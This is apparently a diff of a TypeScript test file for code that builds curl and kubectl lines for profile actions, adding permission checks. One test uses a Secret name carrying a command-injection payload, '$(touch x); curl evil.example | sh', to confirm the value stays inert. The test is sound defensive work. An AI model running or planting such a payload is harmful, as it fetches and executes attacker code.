@@ -88,9 +88,23 @@ const subject = (part: Partial<ProfileSubject>): ProfileSubject => ({
   ...part,
 });
 
+const may = { test: true, change: true, replaceKey: true, delete: true };
+
+it('has no line for what somebody may not do', () => {
+  const titles = (rights: Partial<typeof may>) =>
+    profileCommands(subject({}), null, door, {
+      ...{ test: false, change: false, replaceKey: false, delete: false },
+      ...rights,
+    }).map(({ title }) => title);
+  expect(titles({})).toEqual(['Show it']);
+  expect(titles({ test: true, delete: true })).toEqual(['Show it', 'Test it now', 'Delete it']);
+  expect(titles({ change: true })).toEqual(['Show it', 'Edit it', 'Make it the default', 'Assign it to users']);
+  expect(titles({ replaceKey: true })).toEqual(['Show it', 'Replace its key']);
+});
+
 describe('the line that edits a profile', () => {
   const edit = (part: Partial<ProfileSubject>) =>
-    profileCommands(subject(part), null, door).find(({ title }) => title === 'Edit it') ?? { curl: '', kubectl: '' };
+    profileCommands(subject(part), null, door, may).find(({ title }) => title === 'Edit it') ?? { curl: '', kubectl: '' };
 
   it('makes the change of the form at both doors', () => {
     const change = { display_name: "Bob's", fallback: null, pricing: { input_per_million: 2, output_per_million: null } };
@@ -121,7 +135,7 @@ describe('the line that edits a profile', () => {
 });
 
 it('has a line of every kind for everything that can be done with a profile', () => {
-  const commands = profileCommands(subject({}), `o'neil`, door);
+  const commands = profileCommands(subject({}), `o'neil`, door, may);
   expect(commands.map(({ title }) => title)).toEqual([
     'Show it',
     'Test it now',
@@ -141,7 +155,7 @@ it('has a line of every kind for everything that can be done with a profile', ()
 });
 
 it('a Secret whose name is a command is still only a name', () => {
-  const lines = profileCommands(subject({ secret: '$(touch x); curl evil.example | sh' }), null, door);
+  const lines = profileCommands(subject({ secret: '$(touch x); curl evil.example | sh' }), null, door, may);
   const replace = lines.find(({ title }) => title === 'Replace its key');
   const calls = run(replace?.kubectl ?? '');
   expect(calls.map(({ words }) => words.slice(3, 6))).toEqual([['patch', 'secret', '$(touch x); curl evil.example | sh']]);
